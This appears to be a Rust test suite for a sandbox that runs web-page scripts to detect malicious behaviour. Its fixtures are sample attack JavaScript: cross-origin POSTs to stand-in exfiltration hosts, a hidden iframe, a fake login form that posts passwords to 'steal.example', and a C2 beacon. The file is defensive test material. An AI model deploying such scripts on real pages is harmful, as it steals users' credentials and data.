use std::collections::BTreeMap;
use std::time::Instant;

use urlscope_core::corpus::{inline_scripts, PageSnapshot};
use urlscope_core::evidence::{Severity, UrlRecord};
use urlscope_core::sandbox::dom::{hidden_flags, DomNode};
use urlscope_core::sandbox::engine::{execute_page, Sandbox, SandboxConfig};
use urlscope_core::sandbox::trace::{TraceEvent, TraceKind};

fn page(html: &str) -> PageSnapshot {
    PageSnapshot {
        url: UrlRecord::parse("https://shop.example/login").unwrap(),
        html: html.to_string(),
        scripts: inline_scripts(html),
        fetched_at: 0,
        tls_present: true,
        responses: BTreeMap::new(),
    }
}

fn with_script(js: &str) -> PageSnapshot {
    page(&format!("<html><head><title>t</title></head><body><p>hello</p><script>{js}</script></body></html>"))
}

fn run(js: &str) -> urlscope_core::sandbox::engine::ExecutionResult {
    execute_page(&with_script(js), &SandboxConfig::default()).unwrap()
}

fn of_kind(trace: &[TraceEvent], kind: TraceKind) -> Vec<&TraceEvent> {
    trace.iter().filter(|e| e.kind == kind).collect()
}

#[test]
fn empty_page_yields_empty_trace() {
    let out = execute_page(&page("<html><body></body></html>"), &SandboxConfig::default()).unwrap();
    assert!(out.trace.is_empty(), "{:?}", out.trace);
    assert!(out.new_globals.is_empty());
    assert_eq!(out.virtual_ms, 0);
    assert!(!out.truncated && !out.hard_cap_hit);
}

#[test]
fn cross_origin_post_is_one_high_fetch_at_time_zero() {
    let out = run("fetch('https://collector.evil/x', {method: 'POST', body: 'u=1'});");
    let fetches = of_kind(&out.trace, TraceKind::Fetch);
    assert_eq!(fetches.len(), 1);
    let f = fetches[0];
    assert_eq!(f.timestamp, 0);
    assert_eq!(f.url(), Some("https://collector.evil/x"));
    assert_eq!(f.str_field("method"), Some("POST"));
    assert!(f.is_cross_origin());
    assert_eq!(f.severity(), Some(Severity::High));
}

#[test]
fn same_origin_get_is_low() {
    let out = run("fetch('/api/session');");
    let f = of_kind(&out.trace, TraceKind::Fetch)[0];
    assert!(!f.is_cross_origin());
    assert_eq!(f.severity(), Some(Severity::Low));
}

#[test]
fn completeness_page_logs_every_hooked_call() {
    let js = r#"(function () {
        fetch('https://exfil.example/c', {method: 'POST'});
        var x = new XMLHttpRequest(); x.open('GET', '/data.json'); x.send();
        new WebSocket('wss://live.example/ws');
        eval('1+1');
        var s = document.createElement('script'); s.src = 'https://cdn.example/a.js'; document.body.appendChild(s);
        var f = document.createElement('iframe'); f.width = '0'; f.height = '0'; f.src = 'https://track.example/'; document.body.appendChild(f);
        var c = document.cookie; document.cookie = 'sid=1';
        localStorage.setItem('k', 'v');
        setTimeout(function () {}, 10);
        document.addEventListener('keydown', function () {});
        window.stealCreds = function () {};
    })();"#;
    let out = run(js);
    let apis: Vec<&str> = out.trace.iter().map(|e| e.api()).collect();
    for want in [
        "window.fetch",
        "XMLHttpRequest.open",
        "XMLHttpRequest.send",
        "window.WebSocket",
        "window.eval",
        "Node.appendChild",
        "Document.cookie.get",
        "Document.cookie.set",
        "Storage.setItem",
        "window.setTimeout",
        "EventTarget.addEventListener",
        "newGlobalProperties",
        "Document.createElement",
    ] {
        assert!(apis.contains(&want), "missing {want} in {apis:?}");
    }
    let appended = of_kind(&out.trace, TraceKind::ScriptAppend);
    assert_eq!(appended.len(), 1);
    assert!(appended[0].is_cross_origin());
    let iframe = of_kind(&out.trace, TraceKind::DomInsert);
    assert_eq!(iframe.len(), 1);
    assert_eq!(iframe[0].str_field("tag"), Some("iframe"));
    assert!(iframe[0].is_hidden());
    assert_eq!(iframe[0].severity(), Some(Severity::Medium));
    assert_eq!(out.new_globals, ["stealCreds"]);
    assert_eq!(apis.iter().filter(|a| **a == "Document.createElement").count(), 2);
    // The completed timer fires; it produces no trace event of its own.
    assert_eq!(out.virtual_ms, 10);
}

#[test]
fn top_level_declarations_are_new_globals() {
    let out = run("var token = 1; function harvest() {} let scoped = 2;");
    assert_eq!(out.new_globals, ["token", "harvest"]);
}

#[test]
fn script_errors_do_not_stop_later_scripts() {
    let html = "<html><body><script>null.boom();</script><script>fetch('/after');</script></body></html>";
    let out = execute_page(&page(html), &SandboxConfig::default()).unwrap();
    assert_eq!(out.script_errors, 1);
    let errors: Vec<_> = out.trace.iter().filter(|e| e.is_script_error()).collect();
    assert_eq!(errors.len(), 1);
    assert!(errors[0].str_field("error").unwrap().contains("TypeError"), "{:?}", errors[0]);
    assert_eq!(errors[0].severity(), None);
    assert_eq!(of_kind(&out.trace, TraceKind::Fetch).len(), 1);
}

#[test]
fn virtual_clock_fast_forwards_delayed_payloads() {
    let started = Instant::now();
    let out = run("setTimeout(function () { fetch('https://late.example/p'); }, 3000);");
    assert!(started.elapsed().as_millis() < 2000);
    let f = of_kind(&out.trace, TraceKind::Fetch);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].timestamp, 3000);
}

#[test]
fn timers_past_the_window_do_not_fire() {
    let out = run("setTimeout(function () { fetch('/never'); }, 5000);");
    assert!(of_kind(&out.trace, TraceKind::Fetch).is_empty());
    assert_eq!(out.virtual_ms, 0);
}

#[test]
fn quiet_polling_settles_before_the_window_ends() {
    let out = run("setInterval(function () { var x = 1 + 1; }, 100);");
    assert!(out.virtual_ms < 4000, "{}", out.virtual_ms);
    assert!(out.virtual_ms >= 750, "{}", out.virtual_ms);
}

#[test]
fn timer_string_handler_is_medium() {
    let out = run("setTimeout(\"fetch('/x')\", 20);");
    let t = of_kind(&out.trace, TraceKind::TimerSet)[0];
    assert_eq!(t.severity(), Some(Severity::Medium));
    assert_eq!(of_kind(&out.trace, TraceKind::Fetch)[0].timestamp, 20);
}

#[test]
fn hard_cap_stops_infinite_loops() {
    let cfg = SandboxConfig { window_ms: 400, hard_cap_ms: 500, ..SandboxConfig::default() };
    let started = Instant::now();
    let out = execute_page(&with_script("while (true) {}"), &cfg).unwrap();
    let took = started.elapsed().as_millis();
    assert!(took <= 1000, "took {took} ms");
    assert!(out.hard_cap_hit);
}

#[test]
fn default_hard_cap_bounds_wall_time() {
    let started = Instant::now();
    let out = execute_page(&with_script("for (;;) { Math.random(); }"), &SandboxConfig::default()).unwrap();
    let took = started.elapsed().as_millis() as u64;
    assert!(took <= 6000 + 500, "took {took} ms");
    assert!(out.hard_cap_hit);
}

#[test]
fn interaction_reveals_click_gated_requests() {
    let html = r#"<html><body><button id="go" style="width:200px;height:40px">Continue</button>
        <script>document.getElementById('go').addEventListener('click', function () {
            fetch('https://gate.example/next', {method: 'POST'});
        });</script></body></html>"#;
    let out = execute_page(&page(html), &SandboxConfig::default()).unwrap();
    let kinds: Vec<TraceKind> = out.trace.iter().map(|e| e.kind).collect();
    let click = kinds.iter().position(|k| *k == TraceKind::InteractionSimulated).expect("interaction");
    let fetch = kinds.iter().position(|k| *k == TraceKind::Fetch).expect("fetch after click");
    assert!(click < fetch);
    assert_eq!(out.trace[click].str_field("target"), Some("button#go"));
}

#[test]
fn interaction_is_skipped_without_handlers_or_when_disabled() {
    let html = "<html><body><button>Nothing</button></body></html>";
    let mut sb = Sandbox::new(&page(html), &SandboxConfig::default()).unwrap();
    sb.install_shim().unwrap();
    assert!(sb.simulate_interaction(true).is_empty());

    let html = "<html><body><a onclick=\"fetch('/x')\">go</a></body></html>";
    let mut sb = Sandbox::new(&page(html), &SandboxConfig::default()).unwrap();
    sb.install_shim().unwrap();
    assert!(sb.simulate_interaction(false).is_empty());
    let events = sb.simulate_interaction(true);
    assert_eq!(events[0].kind, TraceKind::InteractionSimulated);
    assert!(events.iter().any(|e| e.kind == TraceKind::Fetch));
}

#[test]
fn interaction_is_not_needed_when_the_page_already_talks() {
    let html = r#"<html><body><button onclick="fetch('/later')">x</button><script>fetch('/now');</script></body></html>"#;
    let out = execute_page(&page(html), &SandboxConfig::default()).unwrap();
    assert!(of_kind(&out.trace, TraceKind::InteractionSimulated).is_empty());
    assert_eq!(of_kind(&out.trace, TraceKind::Fetch).len(), 1);
}

#[test]
fn engine_and_host_agree_on_hidden_elements() {
    let html = r#"<html><body>
        <div hidden><span>a</span></div>
        <div style="display:none"><p>b</p></div>
        <div style="visibility:hidden"><p>c</p><p style="visibility:visible">d</p></div>
        <iframe width="0" height="0"></iframe>
        <div style="position:absolute;left:-5000px;width:10px">e</div>
        <div style="position:fixed;top:900px">f</div>
        <div style="position:absolute;left:20px;top:20px">g</div>
        <input type="hidden" name="t">
        <img style="width:0px">
        <p>plain</p>
    </body></html>"#;
    let sb = Sandbox::new(&page(html), &SandboxConfig::default()).unwrap();
    let from_engine = sb.hidden_flags().unwrap();
    let mut from_host = hidden_flags(&DomNode::from_html(html));
    from_host.retain(|(tag, _)| tag != "#document");
    assert_eq!(from_engine, from_host);
    assert!(from_host.iter().filter(|(_, h)| *h).count() >= 8);
}

#[test]
fn dom_changes_reach_visible_text_and_metadata() {
    let js = r#"
        document.body.innerHTML = '<h1>Verify your account</h1><form action="https://steal.example/p">'
            + '<input type="email" name="email"><input type="password" name="pw"></form>';
        document.title = 'Sign in';
    "#;
    let out = run(js);
    assert!(out.visible_text.contains("Verify your account"), "{}", out.visible_text);
    assert_eq!(out.dom_meta.title, "Sign in");
    assert_eq!(out.dom_meta.login_forms, 1);
    assert_eq!(out.dom_meta.password_fields, 1);
    assert_eq!(out.dom_meta.external_form_actions, ["https://steal.example/p"]);
}

#[test]
fn injected_inline_and_served_scripts_execute() {
    let mut snap = with_script(
        "(function () { var s = document.createElement('script'); s.textContent = 'window.injected = 1; fetch(\"/one\")'; document.head.appendChild(s);\
         var t = document.createElement('script'); t.src = '/two.js'; document.head.appendChild(t); })();",
    );
    snap.responses.insert("https://shop.example/two.js".into(), "fetch('/two');".into());
    let out = execute_page(&snap, &SandboxConfig::default()).unwrap();
    let urls: Vec<&str> = of_kind(&out.trace, TraceKind::Fetch).iter().filter_map(|e| e.url()).collect();
    assert_eq!(urls, ["/one", "/two"]);
    assert_eq!(out.new_globals, ["injected"]);
}

#[test]
fn responses_are_served_from_the_snapshot() {
    let mut snap = with_script(
        "fetch('/cfg.json').then(function (r) { return r.json(); }).then(function (c) { fetch(c.next); });",
    );
    snap.responses.insert("https://shop.example/cfg.json".into(), r#"{"next": "https://c2.example/beacon"}"#.into());
    let out = execute_page(&snap, &SandboxConfig::default()).unwrap();
    let urls: Vec<&str> = of_kind(&out.trace, TraceKind::Fetch).iter().filter_map(|e| e.url()).collect();
    assert_eq!(urls, ["/cfg.json", "https://c2.example/beacon"]);
}

#[test]
fn runs_are_deterministic() {
    let js = "var r = Math.random(); setTimeout(function () { fetch('/p?r=' + r + '&t=' + Date.now()); }, 50);";
    let a = run(js);
    let b = run(js);
    assert_eq!(a.trace, b.trace);
    let url = of_kind(&a.trace, TraceKind::Fetch)[0].url().unwrap().to_string();
    assert!(url.contains("&t=1718000000050"), "{url}");
}

#[test]
fn load_events_fire_after_scripts() {
    let out = run("window.addEventListener('load', function () { fetch('/loaded'); });\
                   document.addEventListener('DOMContentLoaded', function () { fetch('/ready'); });");
    let urls: Vec<&str> = of_kind(&out.trace, TraceKind::Fetch).iter().filter_map(|e| e.url()).collect();
    assert_eq!(urls, ["/ready", "/loaded"]);
}

#[test]
fn trace_is_capped_with_a_marker() {
    let cfg = SandboxConfig { max_trace_events: 100, ..SandboxConfig::default() };
    let out = execute_page(&with_script("for (let i = 0; i < 5000; i++) localStorage.getItem('k' + i);"), &cfg).unwrap();
    assert!(out.truncated);
    assert_eq!(out.trace.len(), 100);
    let marker = out.trace.last().unwrap();
    assert_eq!(marker.api(), "trace.truncated");
    assert_eq!(marker.detail["dropped"].as_u64(), Some(4901));
}

#[test]
fn geolocation_and_beacons_are_recorded() {
    let out = run("navigator.geolocation.getCurrentPosition(function () {}); navigator.sendBeacon('https://b.example/x', 'd');");
    assert_eq!(of_kind(&out.trace, TraceKind::Geolocation).len(), 1);
    let f = of_kind(&out.trace, TraceKind::Fetch);
    assert_eq!(f[0].api(), "navigator.sendBeacon");
    assert_eq!(f[0].severity(), Some(Severity::High));
}

#[test]
fn page_sees_a_plausible_browser() {
    let mut sb = Sandbox::new(&page("<html><body><div id=a class='x y'><span>t</span></div></body></html>"), &SandboxConfig::default()).unwrap();
    sb.install_shim().unwrap();
    let checks = [
        ("navigator.webdriver", "false"),
        ("location.hostname", "shop.example"),
        ("location.protocol", "https:"),
        ("document.querySelector('div.x > span').textContent", "t"),
        ("document.querySelectorAll('#a, span').length", "2"),
        ("document.getElementById('a') instanceof HTMLDivElement", "true"),
        ("String(document.createElement).includes('[native code]')", "true"),
        ("String(fetch).includes('[native code]')", "true"),
        ("fetch.name", "fetch"),
        ("screen.width + 'x' + screen.height", "1366x768"),
        ("typeof customElements.define", "function"),
    ];
    for (expr, want) in checks {
        assert_eq!(sb.eval(expr).as_deref(), Ok(want), "{expr}");
    }
}
